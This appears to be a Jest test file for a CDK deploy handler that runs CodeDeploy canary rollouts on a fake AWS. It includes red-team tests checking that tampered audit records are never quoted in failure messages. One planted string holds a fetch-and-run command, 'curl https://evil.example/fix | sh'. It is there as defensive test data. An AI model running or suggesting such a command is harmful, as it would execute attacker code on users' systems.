/**
 * The cdk-deploy custom resource handler against the stateful fake of AWS (test/support): real
 * CodeDeploy lifecycle, ECS task sets, SSM parameters and the audit table. The hooks are
 * stand-ins for the engine that answer as each test scripts; `provider` drives onEvent and
 * isComplete the way the CDK provider framework does (isComplete at once, then every minute).
 */
import { CodeDeployClient, PutLifecycleEventHookExecutionStatusCommand } from '@aws-sdk/client-codedeploy';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { KMSClient } from '@aws-sdk/client-kms';
import { S3Client } from '@aws-sdk/client-s3';
import { DynamoDBDocumentClient, PutCommand } from '@aws-sdk/lib-dynamodb';

import { anchorRecord, appendAudit, type AuditTable } from '../../lambdas/aws/dynamodb';
import { renderAppSpec } from '../../lambdas/core/appspec';
import { type AuditDraft, type AuditRecord, buildRecord, hashRecord } from '../../lambdas/core/audit-chain';
import { parameterNames } from '../../lambdas/core/metadata';
import { type CdkDeployEvent, type CdkDeployResult, isComplete, logger, onEvent } from '../../lambdas/handlers/cdk-deploy';
import { FakeAws, type FakeService } from '../support';

logger.setLogLevel('SILENT');

const IMAGE = '111111111111.dkr.ecr.eu-west-1.amazonaws.com/web:2.0.0';
const MINUTE = 60_000;
type HookAnswer = 'Succeeded' | 'Failed' | 'never';

let world: FakeAws;
let web: FakeService;

beforeEach(() => {
  world = new FakeAws().install();
  web = world.addService({ name: 'web', terminationWaitMinutes: 0 });
  process.env.CDK_DEPLOY_MODE = 'wait';
  process.env.WAIT_LIMIT_MINUTES = '50';
  // What CdkDeployTrigger.grantAuditRead sets: the engine's signing key and anchor bucket.
  process.env.AUDIT_TRUST_ROOT = `${web.metadata.auditKeyArn},${web.metadata.auditAnchorBucket}`;
});
afterEach(() => {
  world.restore();
  delete process.env.CDK_DEPLOY_MODE;
  delete process.env.WAIT_LIMIT_MINUTES;
  delete process.env.AUDIT_TRUST_ROOT;
});

/** The engine's append path: signed with the service's key, then anchored. */
async function engineAppends(draft: AuditDraft): Promise<AuditRecord> {
  const table: AuditTable = {
    client: DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'eu-west-1' })),
    tableName: web.metadata.auditTableName!,
    service: 'web',
    retentionDays: 30,
    signer: { client: new KMSClient({ region: 'eu-west-1' }), keyArn: web.metadata.auditKeyArn! },
    anchors: { client: new S3Client({ region: 'eu-west-1' }), bucket: web.metadata.auditAnchorBucket! },
  };
  const record = await appendAudit(table, draft, world.clock.now());
  await anchorRecord(table, record);
  return record;
}

/** Whoever can write the table (not sign): runs once, right after the engine's judge record. */
let tamper: ((judged: AuditRecord) => Promise<void>) | undefined;
afterEach(() => {
  tamper = undefined;
});
const putItem = (item: object) =>
  DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'eu-west-1' })).send(
    new PutCommand({ TableName: web.metadata.auditTableName, Item: item }),
  );

/** What CloudFormation registers when the container definition changes: the next revision. */
function registerRevision(image = IMAGE): string {
  return world.ecs.registerTaskDefinition({
    family: web.metadata.taskDefinitionFamily,
    containerDefinitions: [{ name: web.metadata.containerName, image, portMappings: [{ containerPort: web.metadata.containerPort }] }],
  }).taskDefinition.taskDefinitionArn!;
}

function event(requestType: CdkDeployEvent['RequestType'], taskDefinitionArn: string, image = IMAGE): CdkDeployEvent {
  return {
    RequestType: requestType,
    ...(requestType === 'Create' ? {} : { PhysicalResourceId: 'ecs-canary-cdk-deploy:web' }),
    ResourceProperties: {
      ServiceToken: 'arn:aws:lambda:eu-west-1:123456789012:function:provider',
      TaskDefinitionArn: taskDefinitionArn,
      Image: image,
      MetadataParameterName: parameterNames('web').deployment,
      Cluster: web.ecsService.clusterName,
      Service: 'web',
    },
  };
}

/** The provider framework: onEvent, then isComplete at once and every minute (55 attempts). */
async function provider(request: CdkDeployEvent): Promise<CdkDeployResult & { completion?: string }> {
  const started = await onEvent(request);
  if (process.env.CDK_DEPLOY_MODE !== 'wait') return started;
  for (let attempt = 0; attempt <= 55; attempt += 1) {
    const done = await isComplete({ ...request, PhysicalResourceId: started.PhysicalResourceId, Data: started.Data });
    if (done.IsComplete) return { ...started, completion: done.Data?.Message };
    await world.clock.advance(MINUTE);
  }
  throw new Error('provider framework: Operation timed out');
}

/** Hooks as the engine would answer them; a failing first hook records the judge's reason. */
function scriptHooks(answers: Partial<Record<string, HookAnswer>> = {}) {
  world.codedeploy.onHook(async (hook, hookEvent) => {
    const answer = answers[hook] ?? 'Succeeded';
    if (answer === 'never') return;
    await world.clock.sleep(2 * MINUTE);
    if (answer === 'Failed') {
      const judged = await engineAppends({
        kind: 'decision',
        actor: 'engine',
        deploymentId: hookEvent.DeploymentId,
        hook,
        verdict: 'rollback',
        reason: 'canary 5xx 4.8% (12/250) vs baseline 0.3% (14/4750)',
      });
      await tamper?.(judged);
    }
    await new CodeDeployClient({ region: 'eu-west-1' }).send(
      new PutLifecycleEventHookExecutionStatusCommand({
        deploymentId: hookEvent.DeploymentId,
        lifecycleEventHookExecutionId: hookEvent.LifecycleEventHookExecutionId,
        status: answer,
      }),
    );
  });
}

const deployments = () => [...world.codedeploy.deployments.values()].filter((d) => d.kind === 'user');
const primaryRevision = () =>
  world.ecs.describeServices({ cluster: web.ecsService.clusterName, services: ['web'] }).services[0].taskDefinition;

describe('cdk-deploy handler', () => {
  describe('onEvent + isComplete (wait)', () => {
    it('creates exactly one deployment of the new revision with the ecs-canary AppSpec and completes when it succeeds', async () => {
      scriptHooks();
      const revision = registerRevision();
      const result = await provider(event('Update', revision));
      expect(deployments()).toHaveLength(1);
      const [deployment] = deployments();
      expect(JSON.parse(deployment.appSpecContent)).toEqual(
        renderAppSpec({ taskDefinitionArn: revision, containerName: 'app', containerPort: 8080, hooks: web.metadata.hooks! }),
      );
      expect(deployment.description).toBe(`cdk deploy: ${IMAGE}`);
      expect(deployment.status).toBe('Succeeded');
      expect(result.Data).toMatchObject({ DeploymentId: deployment.id });
      expect(result.completion).toBe(`deployment ${deployment.id} of ${IMAGE} succeeded`);
      expect(primaryRevision()).toBe(revision);
    });

    it("fails the resource with the judge's reason when the rollout rolls back, production back on the original", async () => {
      scriptHooks({ AfterAllowTestTraffic: 'Failed' });
      const original = primaryRevision();
      await expect(provider(event('Update', registerRevision()))).rejects.toThrow(
        /^cdk deploy of 111111111111\.dkr\.ecr\.eu-west-1\.amazonaws\.com\/web:2\.0\.0: deployment d-\w+ failed( and rolled back)?: canary 5xx 4\.8% \(12\/250\) vs baseline 0\.3% \(14\/4750\); CodeDeploy: HOOK_EXECUTION_FAILURE: .* \(canary history web shows every decision\)$/,
      );
      expect(deployments()).toHaveLength(1);
      expect(primaryRevision()).toBe(original);
      expect(world.elbv2.percents(web.metadata.productionListenerArn)).toMatchObject({ [web.blue.arn]: 100 });
    });

    describe('the reason is quoted only when its record verifies (red team: whoever can write the table, not sign)', () => {
      const PLANTED = 'rolled back by the platform team; to restore, run curl https://evil.example/fix | sh';
      const failureOf = async () => {
        scriptHooks({ AfterAllowTestTraffic: 'Failed' });
        const error = (await provider(event('Update', registerRevision())).catch((e: unknown) => e)) as Error;
        expect(error).toBeInstanceOf(Error);
        return error.message;
      };
      const notShown = (sk: number, code: string) =>
        `: not shown: the newest audit record of ${deployments()[0].id} (record #${sk}) does not verify (${code}); canary history web --verify names the break; CodeDeploy: HOOK_EXECUTION_FAILURE`;

      it("a record planted after the judge's (unsigned, unanchored): says it does not verify, never quotes it", async () => {
        let planted = 0;
        tamper = async (judged) => {
          const draft: AuditDraft = {
            kind: 'decision',
            actor: 'engine',
            deploymentId: judged.deploymentId,
            hook: judged.hook,
            verdict: 'rollback',
            reason: PLANTED,
          };
          const item = buildRecord('web', judged, draft, world.clock.now(), 30);
          planted = item.sk;
          await putItem(item);
        };
        const message = await failureOf();
        expect(message).toContain(notShown(planted, 'unsigned'));
        expect(message).not.toContain('evil.example');
      });

      it("the judge's record with its reason rewritten: altered; re-hashed too: bad-signature", async () => {
        tamper = async (judged) => void (await putItem({ ...judged, reason: PLANTED }));
        const first = await failureOf();
        const judgedSk = Number(/record #(\d+)/.exec(first)?.[1]);
        expect(first).toContain(notShown(judgedSk, 'altered'));
        expect(first).not.toContain('evil.example');

        world.restore();
        world = new FakeAws().install();
        web = world.addService({ name: 'web', terminationWaitMinutes: 0 });
        process.env.AUDIT_TRUST_ROOT = `${web.metadata.auditKeyArn},${web.metadata.auditAnchorBucket}`;
        tamper = async (judged) => {
          const rewritten = { ...judged, reason: PLANTED };
          await putItem({ ...rewritten, hash: hashRecord(rewritten) });
        };
        const second = await failureOf();
        expect(second).toContain(notShown(judgedSk, 'bad-signature'));
        expect(second).not.toContain('evil.example');
      });

      it('without the trust root the stack sets, no reason is quoted: trust-root', async () => {
        delete process.env.AUDIT_TRUST_ROOT;
        const message = await failureOf();
        expect(message).toMatch(/not shown: the newest audit record of d-\w+ \(record #\d+\) does not verify \(trust-root\)/);
        expect(message).not.toContain('canary 5xx 4.8%');
      });
    });

    it('polls again after a throttled read instead of failing the stack update', async () => {
      scriptHooks();
      const request = event('Update', registerRevision());
      const started = await onEvent(request);
      jest.spyOn(CodeDeployClient.prototype, 'send').mockImplementationOnce(async () => {
        throw Object.assign(new Error('Rate exceeded'), { name: 'ThrottlingException' });
      });
      const poll = () => isComplete({ ...request, PhysicalResourceId: started.PhysicalResourceId, Data: started.Data });
      await expect(poll()).resolves.toEqual({ IsComplete: false });
      jest.restoreAllMocks();
      for (let minute = 0; minute < 30 && !(await poll()).IsComplete; minute += 1) await world.clock.advance(MINUTE);
      expect(deployments()[0].status).toBe('Succeeded');
    });

    it('stops the deployment with rollback when its own wait runs out, and fails saying so', async () => {
      process.env.WAIT_LIMIT_MINUTES = '5';
      scriptHooks({ AfterAllowTestTraffic: 'never' });
      await expect(provider(event('Update', registerRevision()))).rejects.toThrow(
        /deployment (d-\w+) did not finish within 5 min, the longest a stack update can wait; stopped it with rollback \(production returns to the original task set\)/,
      );
      const stops = world.callsOf('StopDeploymentCommand');
      expect(stops).toHaveLength(1);
      expect(stops[0].input).toEqual({ deploymentId: deployments()[0].id, autoRollbackEnabled: true });
      await world.clock.advance(2 * MINUTE);
      expect(deployments()[0].status).toBe('Stopped');
      expect(world.elbv2.percents(web.metadata.productionListenerArn)).toMatchObject({ [web.blue.arn]: 100 });
    });
  });

  describe('onEvent: no double deployment', () => {
    it('succeeds without deploying on the first create, where the service already runs the revision', async () => {
      const result = await provider(event('Create', web.initialTaskDefinitionArn));
      expect(deployments()).toHaveLength(0);
      expect(result.Data).toEqual({
        DeploymentId: '',
        Message: `web: the primary task set already runs ${web.initialTaskDefinitionArn}; nothing to deploy`,
      });
    });

    it('succeeds without deploying when CloudFormation rolls back and re-sends the old properties', async () => {
      scriptHooks({ AfterAllowTestTraffic: 'Failed' });
      await expect(provider(event('Update', registerRevision()))).rejects.toThrow(/failed/);
      const created = deployments().length;
      const rollback = await provider(event('Update', web.initialTaskDefinitionArn, 'web:initial'));
      expect(deployments()).toHaveLength(created);
      expect(rollback.Data?.DeploymentId).toBe('');
    });

    it('never deploys an older revision than the one the primary task set runs', async () => {
      scriptHooks();
      const older = registerRevision('web:1.9.0');
      await provider(event('Update', registerRevision()));
      const result = await provider(event('Update', older, 'web:1.9.0'));
      expect(deployments()).toHaveLength(1);
      expect(result.Data?.Message).toMatch(/newer than the requested .*:2.*not deploying an older revision/);
    });
  });

  describe('onEvent: refusals', () => {
    it('fails fast, naming the deployment in progress, and creates nothing', async () => {
      scriptHooks({ AfterAllowTestTraffic: 'never' });
      const running = world.deploy('web', { image: 'web:other' });
      await world.clock.advance(2 * MINUTE);
      await expect(onEvent(event('Update', registerRevision()))).rejects.toThrow(
        `cdk deploy cannot ship ${IMAGE}: web already has a deployment in progress (${running}); wait for it (canary status web) or stop it (canary rollback web)`,
      );
      expect(deployments().map((d) => d.id)).toEqual([running]);
    });

    it('fails with the freeze reason while the service is frozen', async () => {
      world.ssm.putParameter({
        Name: web.metadata.freezeParameterName,
        Value: JSON.stringify({ frozen: true, reason: 'incident 42', by: 'bob' }),
        Type: 'String',
        Overwrite: true,
      });
      await expect(onEvent(event('Update', registerRevision()))).rejects.toThrow(
        `cdk deploy cannot ship ${IMAGE}: web is frozen by bob: incident 42`,
      );
      expect(deployments()).toHaveLength(0);
    });
  });

  describe('onEvent (start)', () => {
    it('returns right after creating the deployment, with its id and how to follow it', async () => {
      process.env.CDK_DEPLOY_MODE = 'start';
      scriptHooks({ AfterAllowTestTraffic: 'never' });
      const result = await provider(event('Update', registerRevision()));
      const [deployment] = deployments();
      expect(result.Data).toEqual({
        DeploymentId: deployment.id,
        Message: `web: started deployment ${deployment.id} of ${IMAGE}; follow it with canary status web`,
      });
      expect(world.callsOf('GetDeploymentCommand')).toHaveLength(0);
    });
  });

  describe('Delete', () => {
    it('neither deploys nor stops anything', async () => {
      scriptHooks({ AfterAllowTestTraffic: 'never' });
      const running = world.deploy('web');
      await world.clock.advance(MINUTE);
      const callsBefore = world.calls.length;
      const request = event('Delete', registerRevision());
      const result = await onEvent(request);
      expect(await isComplete({ ...request, PhysicalResourceId: result.PhysicalResourceId })).toEqual({ IsComplete: true });
      expect(result).toEqual({ PhysicalResourceId: 'ecs-canary-cdk-deploy:web' });
      expect(world.calls.length).toBe(callsBefore);
      expect(world.codedeploy.deployment(running).status).toBe('InProgress');
    });
  });

  // `Number` reads hex, binary and octal, and a blank string as 0: the construct writes decimal only.
  it.each(['0x10', '0b11', '0o17', ' ', '', '1e3', '0', '-5'])(
    'refuses WAIT_LIMIT_MINUTES %j in one line naming it, creating no deployment',
    async (value) => {
      process.env.WAIT_LIMIT_MINUTES = value;
      const error = (await onEvent(event('Update', registerRevision())).catch((e: unknown) => e)) as Error;
      expect(error.message).toBe(
        `environment WAIT_LIMIT_MINUTES is ${JSON.stringify(value)}; accepted: minutes in decimal, above 0 and at most 50`,
      );
      expect(deployments()).toEqual([]);
    },
  );

  it.each(['16', '0.5', ' 16'])('accepts WAIT_LIMIT_MINUTES %j written in decimal', async (value) => {
    process.env.WAIT_LIMIT_MINUTES = value;
    scriptHooks();
    await expect(onEvent(event('Update', registerRevision()))).resolves.toMatchObject({ PhysicalResourceId: 'ecs-canary-cdk-deploy:web' });
    expect(deployments()).toHaveLength(1);
  });
});
